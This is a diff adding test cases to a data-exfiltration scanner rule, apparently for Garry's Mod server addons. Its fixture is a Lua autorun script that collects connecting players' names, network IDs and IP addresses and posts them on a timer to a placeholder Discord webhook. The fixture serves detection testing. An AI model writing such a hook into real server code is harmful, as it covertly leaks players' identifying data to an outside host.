@@ -52,4 +52,32 @@ describe('dataexfiltration', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
   });
+  // A game event's record of a connecting player, batched by one handler and posted as JSON
+  // by a timer registered before it.
+  const connectRelay = (line: string) => ({
+    'lua/autorun/server/sv_feed.lua': [
+      'gameevent.Listen("player_connect")',
+      'local pending = {}',
+      'timer.Create("feed_flush", 120, 0, function()',
+      ' if #pending == 0 then return end',
+      ' local body = util.TableToJSON({ embeds = { { description = table.concat(pending, "\\n") } } })',
+      ' HTTP({ url = "https://discord.com/api/webhooks/1/x", method = "POST", body = body, type = "application/json" })',
+      ' pending = {}',
+      'end)',
+      'hook.Add("player_connect", "feed", function(info)',
+      ` pending[#pending + 1] = ${line}`,
+      'end)',
+    ].join('\n'),
+  });
+  it("a connecting player's IP from the game event, posted later as JSON", () => {
+    const findings = check(
+      rule,
+      connectRelay('string.format("%s (%s) from %s", info.name, info.networkid, info.address)'),
+    );
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it("a connecting player's name only, posted later as JSON", () => {
+    const findings = check(rule, connectRelay('string.format("%s is joining", info.name)'));
+    expect(findings).toEqual([]);
+  });
 });
